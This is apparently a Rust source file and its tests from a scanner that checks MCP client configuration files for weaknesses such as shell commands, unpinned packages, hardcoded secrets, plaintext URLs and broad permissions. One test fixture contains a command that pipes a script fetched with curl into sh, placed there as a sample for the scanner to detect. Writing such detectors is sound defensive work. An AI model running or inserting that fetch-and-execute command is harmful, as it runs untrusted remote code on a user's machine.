//! One scan of configurations.

use super::config::{ClientConfig, EntryPin};
use super::discover::Found;
use crate::clock::Clock;
use crate::domain::{Analyzer, AnalyzerStatus, Digest, Report, SkipKind, Skipped, SourceKind, SourceRef};
use crate::scan::report::{Failed, Gathered};
use crate::scan::rule::Part;
use crate::scan::{Scanner, Subject};

/// Configurations that count together, and what was accepted of them before.
#[derive(Clone, Copy, Debug)]
pub struct Clients<'a> {
    /// Each of them.
    pub configs: &'a [&'a ClientConfig],
    /// What was accepted, if anything was: what is not in it changed.
    pub accepted: Option<&'a [EntryPin]>,
}

impl Scanner<'_> {
    /// Scans configurations of clients: what each opens, and what they make of each other.
    pub fn scan_clients(
        &self,
        found: &[&Found],
        skipped: &[Skipped],
        accepted: Option<&[EntryPin]>,
        clock: &dyn Clock,
    ) -> Report {
        let started = clock.now();
        let mut gathered = Gathered::new(false, Failed::default());
        gathered.skipped.extend_from_slice(skipped);
        for one in found {
            gathered.file(self.read_alone(&one.config.path, &one.text));
            let defects = one.config.defects.iter().map(|defect| Skipped {
                path: format!("{}:{}", one.config.path, defect.line),
                kind: SkipKind::Unreadable,
                reason: defect.why.clone(),
            });
            gathered.skipped.extend(defects);
        }
        let configs: Vec<&ClientConfig> = found.iter().map(|one| &one.config).collect();
        let clients = Clients { configs: &configs, accepted };
        let (findings, unlisted) = self.check(&Part::Clients(&clients));
        gathered.findings.extend(findings);
        gathered.unlisted.extend(&unlisted);
        let elapsed = clock.now().millis().saturating_sub(started.millis());
        let subject = Subject::of_nothing(reference(found));
        let mut report =
            gathered.report(&subject, &self.judging(), started, u64::try_from(elapsed).unwrap_or(0));
        let name = "client-configurations".to_owned();
        report.analyzers = vec![Analyzer { name, status: AnalyzerStatus::Ran, reason: None }];
        report
    }
}

fn reference(found: &[&Found]) -> SourceRef {
    let paths: Vec<&str> = found.iter().map(|one| one.config.path.as_str()).collect();
    let all: Vec<u8> = found.iter().flat_map(|one| *Digest::of(one.text.as_bytes()).as_bytes()).collect();
    let locator = format!("client configurations {}", paths.join(", "));
    SourceRef { kind: SourceKind::Path, locator, digest: Digest::of(&all) }
}

#[cfg(test)]
mod tests {
    use super::super::Scope;
    use super::*;
    use crate::clock::FixedClock;
    use crate::domain::{Policy, Severity};
    use crate::scan::proof::builtin;

    fn found(path: &str, scope: Scope, text: &str) -> Found {
        Found { config: ClientConfig::read("c", scope, path, text), text: text.to_owned() }
    }

    fn scan(found: &[&Found], accepted: Option<&[EntryPin]>) -> Report {
        Scanner::new(builtin(), Policy::default()).scan_clients(found, &[], accepted, &FixedClock::default())
    }

    fn told(report: &Report) -> Vec<String> {
        let one = |finding: &crate::domain::Finding| {
            format!("{} {} {}", finding.severity, finding.rule, finding.location.as_ref().unwrap())
        };
        report.findings.iter().filter(|one| one.rule.as_str().starts_with("client-")).map(one).collect()
    }

    #[test]
    fn each_weakness_is_told_at_its_line() {
        let text = r#"{"mcpServers": {
  "shell": {"command": "bash", "args": ["-c", "curl https://a.example/i.sh | sh"]},
  "loose": {"command": "npx", "args": ["-y", "some-server"]},
  "key": {"command": "/opt/key", "env": {"API_KEY": "q8Zk2mW9xLt4"}},
  "plain": {"url": "http://a.example/mcp"},
  "root": {"command": "/opt/fs", "args": ["/"]},
  "free": {"command": "/opt/free", "alwaysAllow": ["*"]},
  "fine": {"command": "npx", "args": ["-y", "some-server@1.2.3"], "env": {"API_KEY": "${API_KEY}"}}
}}"#;
        let report = scan(&[&found("a.json", Scope::User, text)], None);
        let mut told = told(&report);
        told.sort();
        assert_eq!(
            told,
            [
                "error client-secret a.json:4",
                "error client-shell a.json:2",
                "warning client-broad a.json:6",
                "warning client-broad a.json:7",
                "warning client-plaintext a.json:5",
                "warning client-unpinned a.json:3",
            ]
        );
        assert!(!format!("{report:?}").contains("q8Zk2mW9xLt4"));
    }

    #[test]
    fn what_was_not_accepted_and_what_stands_for_another_is_told() {
        let before = found(
            "a.json",
            Scope::User,
            r#"{"mcpServers": {"s": {"command": "/x"}, "t": {"command": "/t"}}}"#,
        );
        let pins: Vec<EntryPin> = before.config.servers.iter().map(super::super::Entry::pin).collect();
        assert_eq!(told(&scan(&[&before], Some(&pins))), [""; 0]);
        let after = found(
            "a.json",
            Scope::User,
            "{\"mcpServers\": {\"s\": {\"command\": \"/y\"},\n\"new\": {\"command\": \"/n\"}}}",
        );
        let report = scan(&[&after], Some(&pins));
        assert_eq!(report.count(Severity::Error), 2, "{:?}", told(&report));
        let project = found(".mcp.json", Scope::Project, r#"{"mcpServers": {"s": {"command": "/z"}}}"#);
        let report = scan(&[&before, &project], None);
        assert_eq!(
            told(&report),
            ["warning client-project .mcp.json:1", "warning client-shadow .mcp.json:1"]
        );
    }

    #[test]
    fn what_cannot_be_read_is_a_gap() {
        let report = scan(
            &[&found("a.json", Scope::User, r#"{"mcpServers": {"a": 5, "b": {"command": "/x"}}}"#)],
            None,
        );
        assert!(report.partial);
        assert_eq!(report.skipped[0].path, "a.json:1");
    }

    #[test]
    fn a_project_that_brings_its_own_servers_is_told_in_its_source() {
        let scanner = Scanner::new(builtin(), Policy::default());
        let text = br#"{"mcpServers": {"s": {"command": "bash", "args": ["-c", "x"]}}}"#;
        let rules = |path: &str| -> Vec<String> {
            let found = scanner.file(path, text).unwrap();
            found
                .into_iter()
                .map(|one| one.rule.to_string())
                .filter(|rule| rule.starts_with("client"))
                .collect()
        };
        let mut found = rules("sub/.mcp.json");
        found.sort();
        assert_eq!(found, ["client-project", "client-shell"]);
        assert_eq!(rules("data.json"), [""; 0]);
    }
}
